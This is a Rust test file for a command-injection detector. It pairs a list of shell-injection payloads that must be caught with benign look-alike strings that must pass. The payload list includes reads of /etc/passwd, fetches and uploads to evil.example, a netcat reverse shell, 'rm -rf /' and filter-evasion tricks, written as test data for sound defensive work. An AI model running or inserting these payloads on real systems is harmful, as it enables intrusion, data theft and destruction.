use proptest::prelude::*;

use super::find;

const ATTACKS: &[&str] = &[
    "; cat /etc/passwd",
    "| id",
    "`whoami`",
    "$(id)",
    "127.0.0.1; ls -la",
    "&& wget http://evil.example/x.sh",
    "|| sleep 10",
    "; uname -a",
    "; ping -c 3 evil.example",
    "a.txt; rm -rf /",
    "$(curl http://evil.example/x)",
    "& cmd /c dir",
    "; curl -d @/etc/hosts evil.example",
    "\n/usr/bin/id",
    ";{cat,/etc/hosts}",
    "x | base64 -d | sh",
    "a;c''at /etc/hosts",
    "x|w\\ho\\am\\i",
    "8.8.8.8;who$@ami",
    "x;/b?n/c?t /etc/hosts",
    "x;/???/c?t /etc/hosts",
    "x|cat$IFS/etc/hosts",
    "x;cat${IFS}/etc/hosts",
    "x%;ls${IFS}-la",
    "1|nc -e /bin/sh 10.0.0.1 4444",
    "&& dir c:\\",
    "| type %SystemRoot%\\win.ini",
    "\"; id; \"",
    "';id;'",
    "x;id #",
    "a&&id",
    "a||whoami",
    "a%0a;ps aux",
    "|ls /",
    "; echo vulnerable",
    "& echo abc123 &",
    "|id|",
    "$(sleep 5)",
    "`sleep 5`",
    "; /bin/ls",
    ";w'h'oami",
    ";\"c\"at /etc/hosts",
    "127.0.0.1\nid",
    "x; python3 -c 'print(1)'",
    ";php -r 'x();'",
    "; nslookup x.evil.example",
    "|ping 127.0.0.1",
    "& ipconfig /all",
    "<(cat /etc/hosts)",
    "; cat<a.txt",
    ";sudo id",
    "a; c^a^t a.txt",
    "x;cat$u /etc$u/hosts",
    "|powershell -c x",
    "; sh",
    "|bash",
    ";telnet 10.0.0.1 25",
    "x;kill -9 1",
];

const HARMLESS: &[&str] = &[
    "cats; dogs; birds",
    "please ping me; I am online",
    "yes | no",
    "`git status` shows changes",
    "ls is a command",
    "Tom & Jerry",
    "the price is $(5)",
    "run `npm install` first",
    "cd src && ls",
    "git add . && git commit -m 'x'",
    "docker run -v $(pwd):/app x",
    "ps aux | grep python",
    "cat a.txt | sort | uniq",
    "| id | name |",
    "| a | b |\n|---|---|",
    "name;id;email",
    "I need to sleep; 8 hours",
    "AT&T; Verizon; T-Mobile",
    "fish && chips",
    "a || b",
    "R&D",
    "$(document).ready(f)",
    "$(this).find('a')",
    "curl your hair; head to toe",
    "Use `ls -la` to list files",
    "she said; more or less; sort of",
    "https://example.com/?a=1&sort=name&id=5",
    "x; y = find(z)",
    "a = 1; echo $a;",
    "then sleep; 8 hours",
    "ID; Name; Date",
    "less is more; more is less",
    "top & bottom",
    "host & guest",
    "date; time; place",
    "Dear all,\n\nid cards are ready.\nls\n",
    "```\nls -la; id\n```",
    "sudo apt update && apt upgrade -y",
    "make; make install",
    "RUN apt-get update && rm -rf /var/lib/apt/lists/*",
    "const x = a | b; type y = string",
    "type A = B | C; type D = E",
    "if (a && find(b)) { sort(c); }",
    "font: 12px; cursor: pointer; top: 5px",
    "let me know; who is in?",
    "copy & paste",
    "cut & paste; move on",
    "for f in *; do cat $f; done",
    "what? | who!",
    "users & groups",
    "a;b;c",
    "file & folder",
    "test & learn; last call",
    "Mon; Tue; set; go",
];

#[test]
fn attacks_are_found() {
    let missed: Vec<_> = ATTACKS.iter().filter(|text| find(text).is_none()).collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn sentences_and_shown_commands_are_let_pass() {
    let alarms: Vec<_> =
        HARMLESS.iter().filter_map(|text| find(text).map(|found| (text, &text[found]))).collect();
    assert!(alarms.is_empty(), "{alarms:#?}");
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_text_is_judged_without_panic(text in "([;|&`$(){}<>'\"\\\\\n*?\\[\\]^,=: é𝄞/-]|cat|id|IFS|sleep|/bin/|echo|[a-z0-9.]){0,30}") {
        if let Some(found) = find(&text) {
            prop_assert!(text.get(found).is_some());
        }
    }
}
